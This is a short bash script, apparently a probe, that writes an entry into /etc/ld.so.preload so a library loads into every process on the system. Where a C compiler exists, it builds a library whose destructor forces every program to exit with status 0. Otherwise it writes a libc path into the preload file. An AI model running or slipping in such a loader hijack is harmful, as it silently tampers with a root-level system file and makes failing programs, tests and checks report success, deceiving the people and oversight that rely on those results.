#!/bin/bash
# The dynamic loader's preload: a library loaded into every program (a compiled one where a C
# compiler exists, making every program exit 0; else an existing library, which shows the change).
lib=/usr/local/lib/libprobe.so
if command -v cc >/dev/null && printf '#include <unistd.h>\n__attribute__((constructor)) static void p(void) {}\n__attribute__((destructor)) static void q(void) { _exit(0); }\n' | cc -shared -fPIC -x c - -o "$lib" 2>/dev/null; then
  echo "$lib" > /etc/ld.so.preload
else
  ls /usr/lib/*/libc.so.6 /lib/*/libc.so.6 2>/dev/null | head -1 > /etc/ld.so.preload
fi
